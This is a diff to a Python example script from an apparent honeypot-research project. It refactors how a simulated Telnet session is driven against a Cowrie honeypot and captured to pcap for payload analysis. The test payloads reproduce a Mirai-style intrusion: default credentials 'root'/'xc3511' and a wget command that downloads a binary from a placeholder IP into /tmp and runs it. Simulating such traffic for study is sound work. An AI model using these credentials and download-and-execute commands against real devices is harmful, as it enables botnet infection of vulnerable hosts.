@@ -10,9 +10,9 @@ Run:  python examples/future_work.py
 """
 
 from repro.analysis.misconfig import classify_database
+from repro.honeypots.base import SessionTranscript
 from repro.honeypots.deployment import build_deployment
 from repro.honeypots.pcap import analyze_payloads, read_pcap
-from repro.internet.fabric import SimulatedInternet
 from repro.internet.population import PopulationBuilder, PopulationConfig
 from repro.net.geo import GeoRegistry
 from repro.net.ipv4 import ip_to_int
@@ -46,19 +46,23 @@ def extended_protocol_scan(seed: int) -> None:
 
 def raw_packet_analysis(seed: int) -> None:
     print("== 2. Raw packet analysis: pcap capture + payload carving ==")
-    net = SimulatedInternet()
-    deployment = build_deployment()
-    deployment.attach(net)
-    cowrie = deployment.get("Cowrie")
+    cowrie = build_deployment().get("Cowrie")
     cowrie.enable_pcap()
     attacker = ip_to_int("185.220.101.7")
-    transcript = deployment.drive_session(
-        net, attacker, cowrie, ProtocolId.TELNET,
-        [b"root", b"xc3511",
-         b"wget http://198.51.100.42/mirai.arm7 -O /tmp/m; "
-         b"chmod +x /tmp/m; /tmp/m"],
+    port = cowrie.ports_for(ProtocolId.TELNET)[0]
+    server = cowrie.services[port]
+    session = server.open_session(peer=attacker)
+    transcript = SessionTranscript(
+        protocol=ProtocolId.TELNET, port=port, source=attacker,
+        banner=server.accept(session),
     )
-    cowrie.record(transcript, day=0, timestamp=3_600.0, actor="mirai")
+    for payload in (b"root", b"xc3511",
+                    b"wget http://198.51.100.42/mirai.arm7 -O /tmp/m; "
+                    b"chmod +x /tmp/m; /tmp/m"):
+        transcript.exchanges.append(
+            (payload, server.handle(payload, session).data)
+        )
+    cowrie.pcap.record(transcript, 3_600.0)
     pcap = cowrie.pcap.pcap_bytes()
     print(f"  captured {len(pcap)} pcap bytes")
     findings = analyze_payloads(read_pcap(pcap), cowrie.address)
